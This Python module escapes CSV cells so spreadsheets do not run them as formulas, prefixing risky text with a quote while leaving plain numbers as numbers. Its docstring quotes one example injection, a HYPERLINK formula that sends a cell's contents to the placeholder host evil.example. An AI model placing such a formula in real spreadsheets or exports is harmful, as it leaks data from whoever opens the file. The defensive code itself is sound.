"""CSV that is safe to open in a spreadsheet: no cell the app writes can start a formula (CSV injection).

Every CSV the app sends is written with ``writer``. A text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or
a carriage return is prefixed with a single quote, as OWASP recommends, so a student named
``=HYPERLINK("http://evil.example/?"&A2,"Grades")`` shows as that text instead of running in the teacher's sheet.

A cell that is exactly a decimal number (``-3.0``, ``+2``, ``-50``) is left as it is: a spreadsheet reads it as that
number and nothing else, so it cannot carry a formula, and the app's own scores and points stay numbers a teacher can
sum. Checking the text rather than where it came from means no caller has to tell people's text from the app's own.
"""
from __future__ import annotations

import csv
import re

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")


def safe_cell(value):
    """``value`` with a ``'`` in front when a spreadsheet would read it as a formula; other values unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not NUMBER.fullmatch(value):
        return "'" + value
    return value


class Writer:
    """``csv.writer(out, **options)`` whose ``writerow`` passes every cell through ``safe_cell``."""

    def __init__(self, out, **options):
        self._writer = csv.writer(out, **options)

    def writerow(self, row):
        return self._writer.writerow([safe_cell(value) for value in row])
